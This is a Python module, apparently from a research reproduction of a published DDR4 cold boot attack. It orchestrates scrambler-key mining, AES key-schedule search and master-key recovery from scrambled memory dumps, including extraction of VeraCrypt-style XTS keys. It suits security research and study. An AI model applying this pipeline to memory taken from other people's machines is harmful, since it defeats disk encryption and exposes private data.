"""The end-to-end DDR4 cold boot attack (§III-C, steps 1–4).

Given nothing but a scrambled memory dump, the pipeline:

1. mines candidate scrambler keys from zero-filled blocks using the
   scrambler-key litmus test (:mod:`repro.attack.keymine`);
2. descrambles individual 64-byte blocks with every candidate key,
   looking for blocks that pass the per-block AES key litmus test
   (:mod:`repro.attack.aes_search`);
3. extends each sighting across its neighbouring windows (every window
   of a schedule yields an independent reconstruction — the
   majority-vote generalisation of the paper's neighbour walk);
4. recovers the secret AES master key from the head of each voted
   schedule.

The attack model matches the paper's: no knowledge of which blocks
share a key, no knowledge of plaintext contents, dump possibly taken
through a second live scrambler, modest bit decay tolerated throughout.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field

from repro.attack.aes_search import AesKeySearch, RecoveredAesKey, ScheduleHit
from repro.attack.keymine import CandidateKey, keys_matrix, mine_scrambler_keys
from repro.dram.image import MemoryImage


@dataclass(frozen=True)
class AttackConfig:
    """Tunables for the §III-C attack pipeline."""

    key_bits: int = 256
    #: Litmus decay budget per mined key block.
    litmus_tolerance_bits: int = 16
    #: Hamming radius at which decayed key copies merge during mining.
    merge_radius_bits: int = 16
    #: Minimum sightings for a mined key to join the candidate set.
    min_key_count: int = 1
    #: Only the first this-many bytes are mined for keys (≤16 MB per §III-B).
    key_scan_limit_bytes: int | None = 16 * 1024 * 1024
    #: Hamming budget when verifying a predicted round key.
    verify_tolerance_bits: int = 16
    #: Cap on candidate keys fed to the search (highest frequency first);
    #: None means use all mined candidates.
    max_candidate_keys: int | None = None
    #: Run the decay-adaptive engine instead of the fixed budgets: the
    #: dump's decay rate is estimated, damaged regions are quarantined,
    #: and the Hamming budgets escalate stage by stage until schedules
    #: surface (see :mod:`repro.attack.adaptive`).
    adaptive: bool = False
    #: Work budget for the adaptive escalation ladder (strict costs 1,
    #: calibrated 2, widened 3, decoded 4).
    adaptive_total_work: int = 6
    #: Highest rung the adaptive ladder may climb (``"strict"``,
    #: ``"calibrated"``, ``"widened"``, ``"decoded"``; None lets the
    #: work budget decide).  Note the decoded stage's cost of 4 only
    #: fits when ``adaptive_total_work`` ≥ 10.
    adaptive_max_stage: str | None = None
    #: Cap on belief-propagation sweeps per decoded table.
    decode_iters: int = 72
    #: Thread shards for the decoded stage: candidate tables are split
    #: across this many decode workers
    #: (:func:`~repro.attack.decode_shard.decode_schedules_sharded`);
    #: per-table outputs stay byte-identical to the unsharded decode.
    decode_workers: int = 1
    #: Path for the decode-state sidecar
    #: (:class:`~repro.resilience.checkpoint.DecodeStateStore`): a
    #: deadline that expires mid-decode checkpoints the partial
    #: posteriors here, and a re-run with the same path warm-starts
    #: them and finishes byte-identically.
    decode_checkpoint: str | None = None
    #: Decay-rate prior the adaptive engine falls back on when the dump
    #: offers nothing measurable.
    prior_decay_rate: float = 0.002
    #: Wall-clock budget for a whole run in seconds (None = unbounded).
    #: Charge decay makes the attack window physical: when the budget
    #: expires, sharded runs stop resumable (completed shards
    #: journalled, the rest reported unscanned) and the adaptive ladder
    #: stops escalating.
    deadline_s: float | None = None
    #: Heartbeat stall timeout for multi-process sharded runs in
    #: seconds (None disables the watchdog).  A worker that publishes
    #: no progress beat for this long is killed and its shard
    #: resubmitted.
    stall_timeout_s: float | None = None
    #: Worker pool for sharded runs: ``"auto"`` (threads unless the run
    #: needs process isolation), ``"thread"``, or ``"process"`` — see
    #: :func:`repro.attack.parallel.resilient_recover_keys`.
    executor: str = "auto"


@dataclass
class AttackReport:
    """Everything the attack learned, plus bookkeeping for the write-up."""

    candidate_keys: list[CandidateKey] = field(default_factory=list)
    recovered_keys: list[RecoveredAesKey] = field(default_factory=list)
    hits: list[ScheduleHit] = field(default_factory=list)
    dump_bytes: int = 0
    mine_seconds: float = 0.0
    search_seconds: float = 0.0
    #: Sharded-run bookkeeping (zero / empty for monolithic runs).
    n_shards: int = 0
    quarantined_shards: list[int] = field(default_factory=list)
    resumed_shards: int = 0
    degraded_to_serial: bool = False
    #: Deadline/watchdog bookkeeping (defaults for monolithic runs).
    deadline_s: float | None = None
    deadline_expired: bool = False
    interrupted: bool = False
    #: Why the run ended early — "deadline" or a signal name (None when
    #: it ran to completion).
    expiry_cause: str | None = None
    #: Shard offsets left unscanned by an expiry/interrupt (resumable).
    unscanned_shards: list[int] = field(default_factory=list)
    #: Workers killed by the heartbeat watchdog for stalled beats.
    stall_kills: int = 0
    #: Degradation-chain bookkeeping: which backend published shared
    #: buffers, where the journal ended up, and whether journaling died.
    resource_backend: str = ""
    checkpoint_path: str | None = None
    checkpoint_error: str | None = None
    #: How shard jobs ran ("serial", "thread", or "process"; "" for
    #: non-sharded runs).
    executor: str = ""
    #: Adaptive-run bookkeeping (``None`` for fixed-budget runs): the
    #: :meth:`repro.attack.adaptive.AdaptiveRecovery.summary` digest —
    #: estimated decay rate and source, stages run, confidence floor,
    #: quarantined regions, diagnostics.
    adaptive: dict | None = None
    #: Regions the adaptive triage excluded from the scan, as
    #: structured dicts (offset, length, reason, detail).
    quarantined_regions: list[dict] = field(default_factory=list)

    @property
    def complete_scan(self) -> bool:
        """False when quarantine, a deadline expiry, or an interrupt
        left part of the dump unsearched."""
        return (
            not self.quarantined_shards
            and not self.quarantined_regions
            and not self.unscanned_shards
        )

    @property
    def resumable(self) -> bool:
        """True when the run stopped early but left a usable trail: a
        deadline/interrupt cut with shards still unscanned."""
        return bool(self.unscanned_shards) and (
            self.deadline_expired or self.interrupted
        )

    @property
    def min_confidence(self) -> float:
        """The weakest recovered key's posterior confidence (0 if none)."""
        return min((r.confidence for r in self.recovered_keys), default=0.0)

    @property
    def master_keys(self) -> list[bytes]:
        """Recovered AES master keys, strongest evidence first."""
        return [r.master_key for r in self.recovered_keys]

    @property
    def scan_rate_mb_per_hour(self) -> float:
        """Search throughput in MB/hour — the paper's §III-C metric."""
        total = self.mine_seconds + self.search_seconds
        if total <= 0:
            return float("inf")
        return (self.dump_bytes / (1024 * 1024)) / (total / 3600.0)

    def summary(self) -> str:
        """One-paragraph human-readable result."""
        text = (
            f"dump={self.dump_bytes / 1048576:.1f}MiB "
            f"candidates={len(self.candidate_keys)} hits={len(self.hits)} "
            f"recovered={len(self.recovered_keys)} "
            f"(mine {self.mine_seconds:.2f}s + search {self.search_seconds:.2f}s, "
            f"{self.scan_rate_mb_per_hour:.0f} MB/h)"
        )
        if self.n_shards:
            text += f" shards={self.n_shards}"
            if self.resumed_shards:
                text += f" resumed={self.resumed_shards}"
            if self.quarantined_shards:
                text += f" QUARANTINED={len(self.quarantined_shards)}"
            if self.unscanned_shards:
                text += (
                    f" UNSCANNED={len(self.unscanned_shards)}"
                    f" ({self.expiry_cause or 'stopped'}, resumable)"
                )
            if self.stall_kills:
                text += f" stall_kills={self.stall_kills}"
        if self.adaptive is not None:
            text += (
                f" adaptive[rate={self.adaptive['estimated_decay_rate']:.4f} "
                f"({self.adaptive['decay_source']}) "
                f"stages={'+'.join(self.adaptive['stages_run']) or 'none'} "
                f"confidence≥{self.min_confidence:.2f}]"
            )
            if self.quarantined_regions:
                text += f" QUARANTINED_REGIONS={len(self.quarantined_regions)}"
        return text


class Ddr4ColdBootAttack:
    """Orchestrates mining and searching over one scrambled dump."""

    def __init__(self, config: AttackConfig | None = None) -> None:
        self.config = config or AttackConfig()

    def run(self, dump: MemoryImage, reference: MemoryImage | None = None) -> AttackReport:
        """Execute steps 1–4 on a scrambled memory image.

        ``reference`` (a pre-decay image, when the experiment has one)
        is only consulted by the adaptive engine, where it upgrades the
        decay estimate to a direct measurement.
        """
        config = self.config
        if config.adaptive:
            return self._run_adaptive(dump, reference)
        report = AttackReport(dump_bytes=len(dump), deadline_s=config.deadline_s)

        start = time.perf_counter()
        report.candidate_keys = mine_scrambler_keys(
            dump,
            tolerance_bits=config.litmus_tolerance_bits,
            merge_radius_bits=config.merge_radius_bits,
            min_count=config.min_key_count,
            scan_limit_bytes=config.key_scan_limit_bytes,
        )
        report.mine_seconds = time.perf_counter() - start
        if not report.candidate_keys:
            return report

        candidates = report.candidate_keys
        if config.max_candidate_keys is not None:
            candidates = candidates[: config.max_candidate_keys]
        search = AesKeySearch(
            keys_matrix(candidates),
            key_bits=config.key_bits,
            verify_tolerance_bits=config.verify_tolerance_bits,
        )
        start = time.perf_counter()
        report.recovered_keys = search.recover_keys(dump)
        report.hits = [hit for rec in report.recovered_keys for hit in rec.hits]
        report.search_seconds = time.perf_counter() - start
        return report

    def _run_adaptive(self, dump: MemoryImage, reference: MemoryImage | None) -> AttackReport:
        """The decay-adaptive path of :meth:`run`."""
        from repro.attack.adaptive import AdaptiveRecoveryEngine

        config = self.config
        store = None
        if config.decode_checkpoint is not None:
            from repro.resilience.checkpoint import DecodeStateStore

            store = DecodeStateStore(config.decode_checkpoint)
        engine = AdaptiveRecoveryEngine(
            key_bits=config.key_bits,
            total_work=config.adaptive_total_work,
            prior_rate=config.prior_decay_rate,
            max_candidate_keys=config.max_candidate_keys,
            scan_limit_bytes=config.key_scan_limit_bytes,
            max_stage=config.adaptive_max_stage,
            decode_iters=config.decode_iters,
            decode_workers=config.decode_workers,
            decode_state_store=store,
        )
        start = time.perf_counter()
        result = engine.recover(dump, reference=reference, deadline=config.deadline_s)
        elapsed = time.perf_counter() - start
        report = AttackReport(dump_bytes=len(dump), deadline_s=config.deadline_s)
        report.candidate_keys = result.candidates
        report.recovered_keys = result.recovered
        report.hits = [hit for rec in result.recovered for hit in rec.hits]
        # The engine interleaves mining and searching per stage; the
        # split timing is not meaningful, so everything lands in search.
        report.search_seconds = elapsed
        report.adaptive = result.summary()
        report.quarantined_regions = [error.to_dict() for error in result.quarantined]
        if result.decode is not None and result.decode.get("interrupted"):
            # A deadline cut the decode mid-sweep; the partial
            # posteriors (if a checkpoint store is wired) make the run
            # resumable, so surface it the same way a sharded expiry is.
            report.deadline_expired = True
            report.interrupted = True
            report.expiry_cause = "deadline"
            report.checkpoint_path = config.decode_checkpoint
        return report

    def run_sharded(
        self,
        dump: MemoryImage,
        workers: int = 1,
        n_shards: int | None = None,
        retry_policy=None,
        checkpoint=None,
        resume: bool = True,
        fault_plan=None,
        on_event=None,
        deadline=None,
        stop=None,
        resource_policy=None,
        checkpoint_fallback_dir=None,
    ) -> AttackReport:
        """Execute the attack as a fault-tolerant sharded scan.

        The resilient sibling of :meth:`run`: the search is split into
        overlapping shards driven by
        :func:`repro.attack.parallel.resilient_recover_keys`, so worker
        crashes and hangs are retried, exhausted shards are quarantined
        (listed in ``report.quarantined_shards``), and — when
        ``checkpoint`` names a journal file — an interrupted scan
        resumes without re-searching completed shards.

        ``deadline`` (seconds or a
        :class:`~repro.resilience.deadline.Deadline`; defaults to
        ``config.deadline_s``) bounds the run resumably, ``stop`` wires
        in graceful-shutdown signals, and ``config.stall_timeout_s``
        arms the heartbeat watchdog for multi-process scans.
        """
        from repro.attack.parallel import resilient_recover_keys
        from repro.resilience.deadline import Deadline
        from repro.resilience.watchdog import WatchdogConfig

        config = self.config
        if deadline is None:
            deadline = config.deadline_s
        deadline = Deadline.coerce(deadline)
        watchdog = None
        if config.stall_timeout_s is not None:
            watchdog = WatchdogConfig(stall_timeout_s=config.stall_timeout_s)
        scan = resilient_recover_keys(
            dump,
            key_bits=config.key_bits,
            workers=workers,
            n_shards=n_shards,
            mining_tolerance_bits=config.litmus_tolerance_bits,
            retry_policy=retry_policy,
            checkpoint=checkpoint,
            resume=resume,
            fault_plan=fault_plan,
            on_event=on_event,
            deadline=deadline,
            stop=stop,
            watchdog=watchdog,
            resource_policy=resource_policy,
            checkpoint_fallback_dir=checkpoint_fallback_dir,
            executor=config.executor,
        )
        report = AttackReport(dump_bytes=len(dump))
        report.candidate_keys = scan.candidates
        report.recovered_keys = scan.recovered
        report.hits = [hit for rec in scan.recovered for hit in rec.hits]
        report.mine_seconds = scan.mine_seconds
        report.search_seconds = scan.search_seconds
        report.n_shards = scan.n_shards
        report.quarantined_shards = scan.quarantined_offsets
        report.resumed_shards = scan.resumed_shards
        report.degraded_to_serial = scan.ledger.degraded_to_serial
        report.deadline_s = scan.deadline_seconds
        report.deadline_expired = scan.deadline_expired
        report.interrupted = scan.interrupted
        report.expiry_cause = scan.expiry_cause
        report.unscanned_shards = scan.unscanned_offsets
        report.stall_kills = scan.ledger.stall_kills
        report.resource_backend = scan.resource_backend
        report.checkpoint_path = scan.checkpoint_path
        report.checkpoint_error = scan.checkpoint_error
        report.executor = scan.executor
        return report

    def recover_xts_master_key(self, dump: MemoryImage) -> bytes | None:
        """Recover a VeraCrypt-style 64-byte XTS master key, if present.

        A mounted XTS volume keeps two adjacent AES-256 schedules in RAM
        — the primary schedule immediately followed (240 bytes later) by
        the tweak schedule.  Both are recovered independently; a pair of
        recovered keys whose table bases differ by exactly one schedule
        length is joined into the 64-byte master key.
        """
        from repro.attack.aes_search import AesKeySearch
        from repro.crypto.aes import schedule_bytes

        report = self.run(dump)
        by_base = {r.hits[0].table_base: r for r in report.recovered_keys if r.hits}
        stride = schedule_bytes(self.config.key_bits)
        for base in sorted(by_base):
            partner = by_base.get(base + stride)
            if partner is not None:
                return by_base[base].master_key + partner.master_key

        # Second chance: one schedule of the XTS pair was recovered but
        # its sibling's windows were too decayed for the general scan.
        # The sibling's base is *known* (adjacent schedules), so retry
        # with the targeted, loose-tolerance recovery.
        if by_base and report.candidate_keys:
            candidates = report.candidate_keys
            if self.config.max_candidate_keys is not None:
                candidates = candidates[: self.config.max_candidate_keys]
            search = AesKeySearch(
                keys_matrix(candidates),
                key_bits=self.config.key_bits,
                verify_tolerance_bits=self.config.verify_tolerance_bits,
            )
            for base in sorted(by_base):
                after = search.recover_at_base(dump, base + stride)
                if after is not None:
                    return by_base[base].master_key + after.master_key
                before = search.recover_at_base(dump, base - stride)
                if before is not None:
                    return before.master_key + by_base[base].master_key
        return None
